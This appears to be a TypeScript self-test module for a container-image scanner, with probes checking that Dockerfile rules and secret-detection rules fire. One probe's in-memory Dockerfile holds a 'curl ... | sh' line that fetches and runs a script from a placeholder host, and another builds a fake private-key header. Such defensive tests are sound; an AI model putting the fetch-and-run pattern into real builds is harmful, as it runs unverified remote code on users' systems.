import { Readable } from 'node:stream';
import { buffer } from 'node:stream/consumers';
import { gzipSync } from 'node:zlib';
import { pack } from 'tar-stream';
import { readDockerfile } from '../../inspection/dockerfile/read-dockerfile';
import { LAYER_LIMITS } from '../../inspection/oci/layer-limits';
import { readLayer } from '../../inspection/oci/read-layer';
import type { WindowRules } from '../../inspection/secret-rules/secret-rules';
import { applyDockerfileRules } from './dockerfile-rules/apply-dockerfile-rules';
import { LayerInspection } from './image/inspect-layer';

const DOCKERFILE = 'FROM debian:12\nRUN curl -fsS https://example.invalid/x | sh\n';
const EXPECTED = ['dockerfile/root-user', 'dockerfile/download-run-unseen'];

/** A Dockerfile that is known to be bad, in memory only. */
export function findsDockerfileProbe(key: Uint8Array): boolean {
  const findings = applyDockerfileRules('probe', readDockerfile(DOCKERFILE), key);
  return EXPECTED.every((id) => findings.some(({ ruleId }) => ruleId === id));
}

/** A layer with a private key of nobody, put together here so that it stands in no file. */
export async function findsLayerProbe(rules: WindowRules): Promise<boolean> {
  const word = ['PRIVATE', 'KEY'].join(' ');
  const tar = pack();
  tar.entry(
    { name: 'probe.txt' },
    `-----BEGIN ${word}-----\n${'q7Zr2Xw9Kd4Mv8Tb3Np6Lc5Hj1Fy0Gs7'.repeat(3)}\n`,
  );
  tar.finalize();
  const packed = gzipSync(await buffer(tar));
  const inspection = new LayerInspection({ image: 'probe', layer: 'layer' }, rules);
  await readLayer({
    packed: Readable.from([packed]),
    packedBytes: packed.length,
    limits: LAYER_LIMITS,
    budget: { bytes: LAYER_LIMITS.bytes, entries: LAYER_LIMITS.entries },
    visit: (entry) => inspection.visit(entry),
    progress: () => undefined,
  });
  return inspection.facts().findings.length > 0;
}
